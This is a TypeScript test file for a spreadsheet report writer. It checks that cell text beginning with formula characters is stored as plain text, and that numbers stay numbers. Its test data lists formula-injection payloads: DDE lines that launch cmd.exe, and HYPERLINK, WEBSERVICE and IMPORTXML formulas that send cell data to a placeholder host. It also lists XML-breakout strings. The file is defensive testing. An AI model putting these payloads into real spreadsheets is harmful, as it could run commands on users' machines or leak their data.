import { strFromU8, unzipSync } from 'fflate';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { type SheetStyle, columnName, writeWorkbook } from '../../../shared/documents/report-xlsx/write-workbook.ts';
import { civilDate } from '../../../shared/domain/calendar/civil-date.ts';

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
const blanks = ['', ' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\t', '\n', '第一行\n'];
const dynamicDataExchange = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!D2",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
  '=WEBSERVICE("http://example.invalid/"&A1)',
  '=IMPORTXML(CONCAT("http://example.invalid/?v=",CONCATENATE(A2:E2)),"//a")',
  '</t></is></c><c r="Z9"><f>1+1</f></c>',
  '<f>SUM(A1:A9)</f>',
  ']]><f>1+1</f>',
  '&#61;1+1',
];
const texts = [...signs.flatMap((sign) => blanks.map((blank) => `${blank}${sign}SUM(A1:A9)`)), ...dynamicDataExchange];
const styles = [
  'plain',
  'title',
  'heading',
  'label',
  'text',
  'figure',
  'amount',
] as const satisfies readonly SheetStyle[];

type ReadCell = {
  readonly type: string | undefined;
  readonly isMarkedAsText: boolean;
  readonly text: string;
  readonly elements: readonly string[];
};

/** The cells of the first sheet by reference: how each is stored, whether its format marks text, and its characters. */
function cellsIn(file: Uint8Array): ReadonlyMap<string, ReadCell> {
  const parts = unzipSync(file);
  const xmlOf = (name: string) => strFromU8(parts[name]!);
  const formats = [
    ...(/<cellXfs[^>]*>(.*)<\/cellXfs>/su.exec(xmlOf('xl/styles.xml'))?.[1] ?? '').matchAll(/<xf [^>]*>/gu),
  ].map(([format]) => format.includes('quotePrefix="1"'));
  const cells = new Map<
    string,
    { type: string | undefined; isMarkedAsText: boolean; text: string; elements: string[] }
  >();
  let cell: { type: string | undefined; isMarkedAsText: boolean; text: string; elements: string[] } | undefined;
  const parser = new Parser(
    {
      onopentag: (name, attributes) => {
        if (name !== 'c') cell?.elements.push(name);
        else
          cells.set(
            attributes['r'] ?? '',
            (cell = {
              type: attributes['t'],
              isMarkedAsText: formats[Number(attributes['s'])] === true,
              text: '',
              elements: [],
            }),
          );
      },
      ontext: (text) => {
        if (cell !== undefined) cell.text += text;
      },
      onclosetag: (name) => {
        if (name === 'c') cell = undefined;
      },
    },
    { xmlMode: true },
  );
  parser.end(xmlOf('xl/worksheets/sheet1.xml'));
  return cells;
}

function workbookOf(values: readonly (string | number)[]): ReadonlyMap<string, ReadCell> {
  const rows = values.map((value) => ({ cells: styles.map((style) => ({ value, style })) }));
  return cellsIn(
    writeWorkbook([{ name: '数据', columnWidths: styles.map(() => 10), rows }], '表', civilDate('2026-03-02')),
  );
}

describe('S9: writeWorkbook', () => {
  const written = workbookOf(texts);

  it('S9: is tried with at least 60 texts that a spreadsheet could run, in every style of cell', () => {
    expect(new Set(texts).size).toBeGreaterThanOrEqual(60);
    expect(written.size).toBe(texts.length * styles.length);
  });

  it.each(texts.map((text, index) => [text, index] as const))(
    'S9: stores %j as a text that is marked as text, and reads the same back',
    (text, index) => {
      for (const column of styles.keys()) {
        expect(written.get(`${columnName(column)}${index + 1}`)).toEqual({
          type: 'inlineStr',
          isMarkedAsText: true,
          text,
          elements: ['is', 't'],
        });
      }
    },
  );

  it.each([0, -3, 0.000001, 1e12])('S9: keeps the number %d a number in the columns of figures', (value) => {
    const cell = workbookOf([value]).get(`${columnName(styles.indexOf('figure'))}1`);
    expect(cell).toEqual({ type: undefined, isMarkedAsText: false, text: String(value), elements: ['v'] });
  });
});
